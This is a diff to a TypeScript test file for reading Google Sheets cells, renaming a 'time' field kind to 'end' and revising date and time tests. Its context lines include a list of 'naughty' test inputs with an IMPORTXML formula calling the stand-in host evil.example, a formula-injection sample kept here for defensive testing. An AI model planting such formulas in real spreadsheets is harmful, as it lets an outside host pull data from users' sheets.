@@ -15,7 +15,7 @@ const MODELS: SheetsModel[] = [true, false].flatMap((keepsMarks) =>
 const nameOf = ({ keepsMarks, isPlainText }: SheetsModel) =>
   `${keepsMarks ? 'marks are given back' : 'marks are taken off'}, cells ${isPlainText ? 'formatted as text' : 'of any format'}`;
 
-const TEXT_KINDS: readonly FieldKind[] = ['line', 'text', 'several', 'choice', 'time'];
+const TEXT_KINDS: readonly FieldKind[] = ['line', 'text', 'several', 'choice', 'end'];
 const NAUGHTY = [
   '=IMPORTXML("http://evil.example","//a")',
   ' =1+1',
@@ -304,12 +304,12 @@ describe('other values in a cell', () => {
 
   test('a bare time, which Sheets keeps as a time of 30 December 1899, is a time', () => {
     const cell = new Date(Date.UTC(1899, 11, 30, 15, 51));
-    expect([read(cell, 'time'), read(cell, 'line'), read(cell, 'when')]).toEqual(['10:51', '10:51', '10:51']);
+    expect([read(cell, 'end'), read(cell, 'line'), read(cell, 'when')]).toEqual(['10:51', '10:51', '10:51']);
   });
 
-  test('a day with a time, in a field for a time, is its time', () => {
-    expect(read(new Date(ZONE.instantOf('2023-02-01', 0)), 'time')).toBe('00:00');
-    expect(read(new Date(ZONE.instantOf('2023-02-01', 545)), 'time')).toBe('09:05');
+  test('the end of an event may be another day, with or without its time', () => {
+    expect(read(new Date(ZONE.instantOf('2023-02-01', 0)), 'end')).toBe('2023-02-01');
+    expect(read(new Date(ZONE.instantOf('2023-02-01', 545)), 'end')).toBe('2023-02-01 09:05');
   });
 
   test('blank cells and checkboxes without a tick hold nothing a person would miss', () => {
